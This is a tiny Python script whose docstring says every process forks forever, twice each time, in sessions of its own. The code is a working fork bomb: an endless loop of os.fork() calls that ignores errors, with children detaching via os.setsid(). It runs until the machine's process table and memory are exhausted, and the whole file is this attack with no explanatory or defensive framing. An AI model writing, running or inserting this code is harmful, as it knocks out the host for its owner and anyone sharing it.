"""Every process forks for ever, twice each time, in sessions of its own."""

import os

while True:
    try:
        if os.fork() == 0 and os.fork() == 0:
            os.setsid()
    except OSError:
        pass
